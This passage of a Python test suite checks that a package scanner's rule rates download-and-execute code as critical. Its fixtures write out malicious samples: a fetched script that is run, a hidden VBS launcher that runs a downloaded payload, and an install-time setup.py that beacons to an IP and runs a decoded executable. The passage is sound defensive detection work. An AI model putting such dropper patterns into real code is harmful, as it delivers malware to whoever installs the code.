        stage=Stage.RUNTIME,
    )
    assert "PV-DL-002" not in ids(run(RULES, job))
    fetched = py(
        "import os, urllib.request\ndef run(url):\n    fh = open('job.sh', 'w')\n"
        "    fh.write(urllib.request.urlopen(url).read().decode())\n    fh.close()\n"
        "    os.chmod('job.sh', 0o755)\n    os.system('./job.sh')\n",
        path="acme/__init__.py",
    )
    assert severities(RULES, fetched, "PV-DL-002") == [Severity.CRITICAL]
    # a composed launcher that names the downloaded program is how the download runs
    launcher = py(
        "import subprocess, urllib.request\n"
        "urllib.request.urlretrieve('https://h.example/pay.py', 'C:\\\\Users\\\\Public\\\\winenv.py')\n"
        "with open('C:\\\\Users\\\\Public\\\\run.vbs', 'w') as f:\n"
        '    f.write(\'CreateObject("WScript.Shell").Run "python C:\\\\Users\\\\Public\\\\winenv.py", 0\')\n'
        "subprocess.call('cmd /c C:\\\\Users\\\\Public\\\\run.vbs')\n",
        path="acme/__init__.py",
    )
    assert severities(RULES, launcher, "PV-DL-002") == [Severity.CRITICAL]
    # a decoded program written in binary mode beside a beacon is a payload, not a script
    payload = py(
        "import base64, subprocess, tempfile, urllib.request\nBLOB = 'TVqQAAMAAAAEAAAA'\n"
        "urllib.request.urlopen('http://203.0.113.9/info?u=me')\n"
        "path = tempfile.gettempdir() + '/x.exe'\nwith open(path, 'wb') as out:\n"
        "    out.write(base64.b64decode(BLOB))\nsubprocess.Popen(path, shell=True)\n",
        path="x-1.0/setup.py",
        stage=Stage.INSTALL,
    )
    assert severities(RULES, payload, "PV-DL-002") == [Severity.CRITICAL]


def test_container_image_steps_run_in_the_image_not_here() -> None:
    """Modal's Image.run_commands declares the steps of a container image build."""
    image = py(
        "import modal\nimage = modal.Image.from_registry('cuda').run_commands([\n"
        "    'wget https://h.example/ffmpeg.tar.xz && tar xf ffmpeg.tar.xz && ./ffmpeg/install.sh',\n])\n",
        path="acme/deploy.py",
    )
    assert "PV-DL-004" not in ids(run(RULES, image))
